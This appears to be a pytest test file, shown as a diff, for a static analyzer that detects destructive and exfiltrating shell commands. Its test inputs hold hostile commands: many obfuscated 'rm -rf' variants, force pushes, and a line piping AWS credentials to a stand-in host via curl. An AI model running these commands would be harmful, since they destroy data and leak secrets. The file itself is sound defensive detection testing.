@@ -1,0 +1,224 @@
+"""The shell front end: fixtures annotated with `# ruleid:` / `# ok:`, positions, hand-offs, errors."""
+from __future__ import annotations
+
+import re
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+
+import analyzer.frontends as frontends
+from analyzer.catalogue import load_catalogue, rules_dir
+from analyzer.frontends import Options, analyze
+from analyzer.model import Analysis, Location
+from tests.annotations import check, expectations
+
+FIXTURES = Path(__file__).parent / "fixtures" / "shell"
+SCRIPTS = sorted(FIXTURES.glob("*.sh"))
+
+
+def run(text: str, origin: Location | None = None) -> Analysis:
+    return analyze("shell", text, origin or Location("t.sh"), Options())
+
+
+def rules_of(text: str) -> list[str]:
+    return [op.rule for op in run(text).operations]
+
+
+# -- fixtures -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("script", SCRIPTS, ids=lambda p: p.name)
+def test_fixture(script: Path) -> None:
+    text = script.read_text(encoding="utf-8")
+    analysis = analyze("shell", text, Location(str(script)), Options())
+    assert analysis.errors == []
+    actual = {(op.rule, op.location.line, op.location.cell) for op in analysis.operations}
+    expected = expectations(text)
+    assert any(e.kind == "ruleid" for e in expected) or script.name == "mentions.sh"
+    assert any(e.kind == "ok" for e in expected), "every fixture needs near-misses"
+    assert check(expected, actual) == []
+
+
+def test_every_shell_rule_has_a_fixture() -> None:
+    data = yaml.safe_load((rules_dir() / "shell.yaml").read_text(encoding="utf-8"))
+    annotated = {e.rule for script in SCRIPTS for e in expectations(script.read_text(encoding="utf-8"))
+                 if e.kind == "ruleid"}
+    missing = {rule["id"] for rule in data["rules"]} - annotated
+    assert missing == set()
+
+
+def test_operations_are_well_formed() -> None:
+    catalogue = load_catalogue()
+    for script in SCRIPTS:
+        for op in run(script.read_text(encoding="utf-8")).operations:
+            rule = catalogue.get(op.rule)
+            assert op.language == "shell" and op.category == rule.category
+            assert op.evidence and "{" not in op.message.replace("${", "").replace("stash@{", "")
+            assert op.severity in ("critical", "high", "medium", "low")
+
+
+# -- positions ------------------------------------------------------------------------------
+
+
+def test_lines_and_columns_follow_the_origin() -> None:
+    origin = Location("notebook.ipynb", line=10, column=5, cell=3, cell_id="c3")
+    analysis = run("rm -rf /srv/a\n\n  git reset --hard\n", origin)
+    first, second = sorted(analysis.operations, key=lambda op: op.location.line)
+    assert (first.location.line, first.location.column) == (10, 5)
+    assert (second.location.line, second.location.column) == (12, 3)
+    assert {op.location.cell for op in analysis.operations} == {3}
+    assert {op.location.cell_id for op in analysis.operations} == {"c3"}
+    assert first.location.path == "notebook.ipynb"
+
+
+def test_embedded_code_keeps_real_positions() -> None:
+    analysis = run("echo start\nbash -c 'rm -rf /srv/a'\ncat <<X | sh\n\ngit clean -fd\nX\n")
+    found = {op.rule: (op.location.line, op.location.column) for op in analysis.operations}
+    assert found["shell.rm-recursive"] == (2, 10)
+    assert found["shell.git-clean"] == (5, 1)
+
+
+def test_columns_count_characters_not_bytes() -> None:
+    op, = run("echo 'héllo'; rm -rf /srv/é").operations
+    assert op.location.column == 15
+
+
+# -- resolution ------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("command", [
+    "r''m -rf /srv", '"rm" -rf /srv', "\\rm -rf /srv", "$'\\x72m' -rf /srv", "CMD=rm; $CMD -rf /srv",
+    "$(echo rm) -rf /srv", "sudo -u deploy /bin/rm -rf /srv", "xargs -0 -n1 rm -rf /srv < list",
+    "IFS=,; rm -rf /srv", "rm -rf -- /srv", "if true; then rm -rf /srv; fi", "f() { rm -rf /srv; }",
+    "case $x in a) rm -rf /srv;; esac", "while true; do rm -rf /srv; done", "(cd / && rm -rf srv)",
+    "{ rm -rf /srv; }", "echo $(rm -rf /srv)", "echo `rm -rf /srv`", "diff <(rm -rf /srv) x",
+    "rm -rf /srv &", "! rm -rf /srv", "x=$(rm -rf /srv)",
+])
+def test_forms_that_remove(command: str) -> None:
+    assert "shell.rm-recursive" in rules_of(command)
+
+
+@pytest.mark.parametrize("command", [
+    'echo "rm -rf /"', "grep 'DROP TABLE' schema.sql", 'git commit -m "rm -rf"', "printf 'rm -rf /'",
+    "man rm", "which rm", "command -v rm", "cat <<EOF\nrm -rf /\nEOF", "# rm -rf /", "type -a rm",
+    "alias x='rm -rf /'", "rm file.txt", "git push origin main", "curl -o f https://example.com/f.tgz",
+    "", "   ",
+])
+def test_mentions_are_not_operations(command: str) -> None:
+    assert run(command).operations == []
+
+
+def test_scratch_only_where_provable() -> None:
+    by_text = {}
+    for command in ['d=$(mktemp -d); rm -rf "$d"', 'rm -rf "$TMPDIR/build"', 'rm -rf "$d"',
+                    'd=$(mktemp -d); rm -rf "$d/../etc"', "rm -rf /tmp/build"]:
+        op, = run(command).operations
+        by_text[command] = op.scratch
+    assert by_text == {'d=$(mktemp -d); rm -rf "$d"': True, 'rm -rf "$TMPDIR/build"': True,
+                       'rm -rf "$d"': False, 'd=$(mktemp -d); rm -rf "$d/../etc"': False,
+                       "rm -rf /tmp/build": False}
+
+
+def test_force_push_severity_depends_on_the_branch() -> None:
+    severity = {c: run(c).operations[0].severity for c in
+                ["git push -f origin main", "git push -f origin feature/x", "git push -f"]}
+    assert severity == {"git push -f origin main": "critical", "git push -f origin feature/x": "medium",
+                        "git push -f": "high"}
+
+
+def test_exfiltration_names_the_host_and_source() -> None:
+    op, = run("cat ~/.aws/credentials | curl --data-binary @- https://collect.example.net/k").operations
+    assert op.rule == "shell.exfil-secret"
+    assert op.detail("host") == "collect.example.net"
+    assert "credentials" in (op.detail("source") or "")
+    up, = run("scp -P 2222 out.csv deploy@files.example.com:/in/").operations
+    assert up.detail("host") == "files.example.com" and up.category == "exfiltration"
+
+
+def test_touches_and_comments() -> None:
+    analysis = run('rm -rf build  # clean\necho "# not a comment"\ncurl -s https://example.com/x -o x\n')
+    assert [(c.text, c.location.line, c.location.column) for c in analysis.comments] == [(" clean", 1, 15)]
+    kinds = {(t.kind, t.target, t.access) for t in analysis.touches}
+    assert ("file", "build", "delete") in kinds and ("host", "example.com", "read") in kinds
+
+
+# -- hand-offs to other front ends --------------------------------------------------------------
+
+
+def test_code_is_handed_to_the_right_front_end(monkeypatch: pytest.MonkeyPatch) -> None:
+    calls: list[tuple[str, str, int, int, str | None]] = []
+    real = frontends.analyze
+
+    def spy(language: str, text: str, origin: Location, options: Options | None = None) -> Analysis:
+        if language == "shell":
+            return real(language, text, origin, options)
+        calls.append((language, text, origin.line, origin.column, options.context_hint if options else None))
+        return Analysis()
+
+    monkeypatch.setattr(frontends, "analyze", spy)
+    script = ("psql -h db -c 'DROP TABLE users'\n"
+              "python3 - <<'PY'\nimport shutil\nPY\n"
+              "mysql -u root shop <<SQL\nDELETE FROM orders;\nSQL\n"
+              "python -c \"import os\"\n"
+              "echo 'SELECT 1' | sqlite3 app.db\n"
+              "bash -c \"psql -c 'TRUNCATE t'\"\n")
+    real("shell", script, Location("t.sh"), Options())
+    assert calls == [
+        ("sql", "DROP TABLE users", 1, 16, "psql"),
+        ("python", "import shutil\n", 3, 1, "python3"),
+        ("sql", "DELETE FROM orders;\n", 6, 1, "mysql"),
+        ("python", "import os", 8, 12, "python"),
+        ("sql", "SELECT 1\n", 9, 7, "sqlite"),
+        ("sql", "TRUNCATE t", 10, 19, "psql"),
+    ]
+
+
+def test_nesting_is_bounded() -> None:
+    command = "rm -rf /srv"
+    for _ in range(12):
+        command = "bash -c " + "'" + command.replace("'", "'\\''") + "'"
+    analysis = run(command)
+    assert analysis.errors and "deep" in analysis.errors[0].message
+
+
+# -- errors ----------------------------------------------------------------------------------
+
+
+def test_unbalanced_quotes_fail_closed_but_analyse_what_parses() -> None:
+    analysis = run('echo ok\nrm -rf /srv/data\necho "unterminated\n')
+    assert [op.rule for op in analysis.operations] == ["shell.rm-recursive"]
+    assert len(analysis.errors) == 1
+    assert analysis.errors[0].line == 3 and "syntax" in analysis.errors[0].message
+
+
+def test_syntax_error_line_follows_origin() -> None:
+    analysis = run("if then fi )", Location("nb.ipynb", line=4, cell=2))
+    assert len(analysis.errors) == 1 and analysis.errors[0].cell == 2 and analysis.errors[0].line == 4
+
+
+# -- cost ------------------------------------------------------------------------------------
+
+
+def test_a_command_costs_well_under_five_milliseconds() -> None:
+    run("sudo rm -rf /srv && git push --force origin main | tee log")
+    start = time.perf_counter()
+    for _ in range(200):
+        run("sudo rm -rf /srv && git push --force origin main | tee log")
+    assert (time.perf_counter() - start) / 200 < 0.005
+
+
+def test_importing_the_front_end_does_not_load_tree_sitter() -> None:
+    code = "import sys, analyzer.frontends.shell; print('tree_sitter' in sys.modules)"
+    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
+                         cwd=Path(__file__).resolve().parents[1])
+    assert out.stdout.strip() == "False"
+
+
+def test_rule_messages_come_from_the_catalogue() -> None:
+    op, = run("git clean -fdx").operations
+    assert op.message == load_catalogue().get("shell.git-clean").format_message(flags="-fdx")
+    assert re.search(r"git clean -fdx", op.evidence)
